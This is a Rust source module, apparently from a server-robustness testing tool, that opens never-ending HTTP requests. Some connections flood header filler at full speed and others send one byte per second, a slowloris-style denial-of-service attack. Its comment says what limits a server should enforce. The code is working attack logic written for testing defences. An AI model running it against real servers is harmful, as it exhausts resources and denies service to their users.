//! Begins HTTP requests that have no end: every other connection sends headers as fast as the server takes them, the others one byte a
//! second.
//!
//! The attacker pays what it sends. A server should read no more than some kilobytes before the end of a request's headers (431), wait no
//! longer than a few seconds for it (408, or a cut), and hold little memory meanwhile.

use std::rc::Rc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::time::interval;

use super::Attacker;
use crate::transport::ResponseHead;

const FILLER: &[u8] =
    b"X-Filler: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
/// Lines that go out at once.
const LINES: usize = 32;
const BYTE_EVERY: Duration = Duration::from_secs(1);

pub(super) async fn run(attacker: Rc<Attacker>, index: u32) {
    loop {
        let Some(stream) = attacker.stream().await else { continue };
        let (mut read, write) = stream.into_split();
        let answer = tokio::select! {
            answer = ResponseHead::read(&mut read) => answer,
            () = write_on(&attacker, write, index) => ResponseHead::read(&mut read).await,
        };
        attacker.head(answer);
    }
}

/// Returns when the server takes no more.
async fn write_on(attacker: &Attacker, mut write: OwnedWriteHalf, index: u32) {
    let host = attacker.url().authority();
    let begin = format!("GET {} HTTP/1.1\r\nHost: {host}\r\n", attacker.url().path_with(""));
    attacker.sent(begin.len(), 1);
    let mut is_taken = write.write_all(begin.as_bytes()).await.is_ok();
    if index.is_multiple_of(2) {
        let lines = FILLER.repeat(LINES);
        while is_taken {
            attacker.sent(lines.len(), 0);
            is_taken = write.write_all(&lines).await.is_ok();
        }
    } else {
        let mut next = interval(BYTE_EVERY);
        for byte in FILLER.iter().cycle() {
            next.tick().await;
            attacker.sent(1, 0);
            if write.write_all(&[*byte]).await.is_err() {
                return;
            }
        }
    }
}
